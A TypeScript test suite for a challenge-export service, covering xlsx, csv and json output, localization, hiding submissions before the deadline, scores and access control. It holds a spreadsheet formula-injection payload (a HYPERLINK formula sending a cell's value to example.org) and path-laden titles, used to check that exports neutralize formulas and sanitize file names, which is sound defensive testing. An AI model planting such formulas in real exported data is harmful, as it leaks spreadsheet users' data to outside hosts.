import { parse } from 'csv-parse/sync';
import { ChallengeExports } from '#libs/challenges/export/challenge-exports.service';
import { exportFile, exportName } from '#libs/challenges/export/export-file';
import { RubricService } from '#libs/challenges/evaluation/rubric.service';
import { ScoringService } from '#libs/challenges/evaluation/scoring.service';
import { QuestionsService } from '#libs/challenges/questions/questions.service';
import { SubmissionsService } from '#libs/challenges/submissions/submissions.service';
import { SubmittingService } from '#libs/challenges/submissions/submitting.service';
import { TermsService } from '#libs/challenges/terms/terms.service';
import { exportFormat } from '#libs/contracts/challenge-exports';
import type { UiLocale } from '#libs/contracts/locale';
import { visitor, type Actor, type SignedInActor } from '#libs/core/auth/actor';
import { ChallengeWorld, given, refusal } from '../support/challenges.js';
import { hasFormula, readWorkbook } from '../support/workbook.js';

/** What a spreadsheet would run. */
const FORMULA = '=HYPERLINK("http://example.org/?"&A1,"压电")';
const IN_FULL_WIDTH = '＝1+1 全角标题';
const BODY = '两天出样。';
const FILE = 'firmware.c';

describe('the export of a challenge', () => {
  let world: ChallengeWorld;
  let exports: ChallengeExports;
  let owner: SignedInActor;
  beforeAll(async () => {
    world = await ChallengeWorld.open();
    exports = world.get(ChallengeExports);
    owner = await world.owner();
  }, 120_000);
  afterAll(() => world.stop(), 30_000);

  const exported = (id: string, actor: Actor = owner) => exports.read(actor, id);
  const fileOf = async (id: string, format: 'xlsx' | 'csv' | 'json', ui: UiLocale = 'en') =>
    exportFile(format, await exported(id), ui);
  const workbookOf = async (id: string, ui?: UiLocale) => readWorkbook(await fileOf(id, 'xlsx', ui));
  const csvOf = async (id: string, ui?: UiLocale) =>
    parse(await fileOf(id, 'csv', ui), { bom: true }) as string[][];
  /** All that stands in the file of a format, as text. */
  async function wordsIn(id: string, format: 'xlsx' | 'csv' | 'json'): Promise<string> {
    if (format !== 'xlsx') return (await fileOf(id, format)).toString();
    const { parts } = await workbookOf(id);
    return [...parts.values()].join('\n');
  }
  const handIn = async (actor: SignedInActor, challengeId: string, title: string) => {
    const id = await world.submissionDraft(actor, challengeId, title);
    await world.get(SubmittingService).submit(actor, id);
    return id;
  };
  async function review(challengeId: string, submissionId: string, values: number[]) {
    const evaluator = await world.someone('EU');
    const { id } = await world.assign(challengeId, submissionId, evaluator.personId);
    await world.respond(evaluator, id, 'accept');
    const params = { id: challengeId };
    const { criteria } = await world.get(RubricService).read(evaluator, given({ params }));
    const scores = values.map((value, n) => ({ criterionId: criteria[n]?.id, value, comment: '' }));
    const body = { scores, final: true };
    await world.get(ScoringService).score(evaluator, given({ params: { id }, body }));
  }
  async function amend(id: string) {
    await world.move(id, 'amended');
    const { version } = await world.challenges.read(owner, id);
    const body = { summary: { locale: 'en', text: 'Find bearing faults early and cheaply.' } };
    await world.challenges.change(owner, given({ params: { id }, body, ifMatch: version }));
    await world.move(id, 'open', 'One word more.');
  }

  it('holds brief, terms, changes, questions and criteria, with all languages', async () => {
    const id = await world.opened();
    const asker = await world.someone();
    const text = (words: string) => ({ text: { locale: 'en', text: words } });
    const questions = world.get(QuestionsService);
    const asked = await questions.ask(asker, given({ params: { id }, body: text('May it be glued?') }));
    await questions.answer(owner, given({ params: { id: asked.id }, body: text('Yes, with epoxy.') }));
    await amend(id);
    const { hash } = await world.get(TermsService).read(owner, given({ params: { id } }));

    const known = await exported(id);
    expect(known.challenge.texts.title?.variants).toMatchObject({
      en: { text: 'Vibration sensing for presses', provenance: 'human' },
      'zh-Hans': { text: '压机振动传感', provenance: 'human' },
    });
    expect(known.terms).toMatchObject([{ version: 1, hash, fields: { foregroundIp: 'solver' } }]);
    expect(Object.keys(known.terms[0]?.text.variants ?? {}).toSorted()).toEqual(['en', 'zh-Hans']);
    expect(known.amendments).toMatchObject([
      {
        number: 1,
        terms: { before: 1, after: 1 },
        before: { texts: { summary: { variants: { en: { text: 'Find bearing faults early.' } } } } },
      },
    ]);
    expect(known.questions).toMatchObject([
      { text: { text: 'May it be glued?' }, answer: { text: 'Yes, with epoxy.' }, state: 'answered' },
    ]);
    expect(known.rubric.criteria.map(({ weight }) => weight)).toEqual([60, 40]);
    expect(known.submissions).toBeNull();

    const { sheets } = await workbookOf(id);
    expect([...sheets.keys()]).toEqual(['Brief', 'Terms', 'Changes', 'Questions', 'Criteria']);
    expect(sheets.get('Brief')).toEqual(
      expect.arrayContaining([
        ['Title', 'en', 'human', 'Vibration sensing for presses'],
        ['Title', 'zh-Hans', 'human', '压机振动传感'],
      ]),
    );
    expect(sheets.get('Terms')).toContainEqual([1, 'Hash (SHA-256)', undefined, hash]);
    expect(
      sheets
        .get('Changes')
        ?.slice(1)
        .map((row) => row.slice(2)),
    ).toEqual([
      ['no', 'Statement', 'en', undefined, 'One word more.'],
      ['no', 'Summary', 'en', 'Find bearing faults early.', 'Find bearing faults early and cheaply.'],
    ]);
    expect(sheets.get('Criteria')?.[1]).toEqual(['Accuracy', 60, 10]);
    expect(JSON.parse((await fileOf(id, 'json')).toString())).toMatchObject({ challenge: { id } });
    expect((await csvOf(id))[0]).toEqual(['Field', 'Language', 'Written by', 'Text or value']);
  });

  it('tells nothing of submissions before the deadline, not even that there are any', async () => {
    const id = await world.opened();
    const tables = async () => {
      const { exportedAt, ...rest } = await exported(id);
      const { sheets } = await workbookOf(id);
      const brief = sheets.get('Brief')?.filter(([field]) => field !== 'Exported at') ?? [];
      const csv = (await csvOf(id)).filter(([field]) => field !== 'Exported at');
      expect(exportedAt).toBeDefined();
      return JSON.stringify([rest, [...sheets.set('Brief', brief)], csv]);
    };
    const before = await tables();
    const [maker, rival, third] = [await world.someone(), await world.someone('EU'), await world.someone()];
    const ids = [
      await handIn(maker, id, FORMULA),
      await world.submissionDraft(rival, id, IN_FULL_WIDTH),
      await handIn(third, id, '撤回的方案'),
    ];
    await world.get(SubmittingService).withdraw(third, ids[2] ?? '');
    const { receipt } = await world.get(SubmissionsService).read(maker, ids[0] ?? '');
    const secrets = [...ids, maker.personId, rival.personId, third.personId, receipt?.sha256 ?? ''];
    for (const format of exportFormat.options) {
      const words = await wordsIn(id, format);
      for (const secret of [...secrets, 'HYPERLINK', IN_FULL_WIDTH, '撤回的方案', BODY, FILE])
        expect([format, words.includes(secret)]).toEqual([format, false]);
    }
    expect(await tables()).toBe(before);
  });

  it('holds what was handed in with its scores after the deadline, and runs nowhere', async () => {
    const id = await world.opened();
    const [maker, rival, third] = [await world.someone(), await world.someone('EU'), await world.someone()];
    const first = await handIn(maker, id, FORMULA);
    const second = await handIn(rival, id, IN_FULL_WIDTH);
    await world.submissionDraft(third, id, '未提交的草稿');
    await world.close(id);
    await review(id, first, [10, 5]);
    await review(id, first, [5, 5]);

    const { items } = await world
      .get(SubmissionsService)
      .list(owner, given({ params: { id }, query: { limit: 20, variants: 'all' } }));
    const { submissions } = await exported(id);
    expect(submissions?.map((one) => one.id).toSorted()).toEqual([first, second].toSorted());
    const one = submissions?.find((each) => each.id === first);
    const seen = items.find((each) => each.id === first);
    expect(one).toMatchObject({ author: seen?.author, title: seen?.title, receipt: seen?.receipt });
    expect(one?.scores).toMatchObject({ mean: 85, median: 85, spread: 15, count: 2 });
    expect(one?.scores?.byCriterion.map(({ mean }) => mean)).toEqual([75, 100]);

    for (const format of exportFormat.options) {
      const words = await wordsIn(id, format);
      for (const told of [first, second, 'HYPERLINK', '全角标题', BODY, FILE, one?.receipt?.sha256 ?? '-'])
        expect([format, told, words.includes(told)]).toEqual([format, told, true]);
      expect(words).not.toContain('未提交的草稿');
    }
    const [header = [], ...rows] = await csvOf(id);
    expect(header.slice(0, 3)).toEqual(['Id', 'Title', 'Author']);
    expect(header).toContain('Accuracy (60 %)');
    const titles = rows.map((row) => row[1]).toSorted();
    expect(titles).toEqual([`'${FORMULA}`, `'${IN_FULL_WIDTH}`]);
    expect(rows.find(([submission]) => submission === first)?.[header.indexOf('Mean')]).toBe('85');

    const book = await workbookOf(id);
    expect(hasFormula(book)).toBe(false);
    const [, ...lines] = book.sheets.get('Submissions') ?? [];
    expect(lines.find(([submission]) => submission === first)).toEqual(
      expect.arrayContaining([FORMULA, seen?.author?.displayName, 85, 15, 2, 75, 100, BODY]),
    );
  });

  it('is labelled in the language of the interface, and named after the challenge', async () => {
    const id = await world.draft({ title: { locale: 'en', text: '..\\press/"fault": <7 of 8>?' } });
    const { sheets } = await workbookOf(id, 'zh-Hans');
    expect([...sheets.keys()]).toEqual(['需求', '条款', '变更', '问答', '评分项']);
    expect((await csvOf(id, 'zh-Hans'))[0]).toEqual(['字段', '语言', '来源', '内容']);
    const known = await exported(id);
    const day = known.exportedAt.slice(0, 10);
    expect(exportName('xlsx', known)).toBe(`__press__fault__ _7 of 8__ ${day}.xlsx`);
  });

  it('is for managers', async () => {
    const id = await world.opened();
    const author = await world.someone();
    await handIn(author, id, 'Mine');
    await world.close(id);
    for (const actor of [author, await world.colleague(), await world.someone()])
      await expect(exported(id, actor)).rejects.toEqual(refusal('forbidden'));
    await expect(exported(id, visitor())).rejects.toEqual(refusal('unauthenticated'));
    await expect(exported(await world.draft(), author)).rejects.toEqual(refusal('not_found'));
  });
});
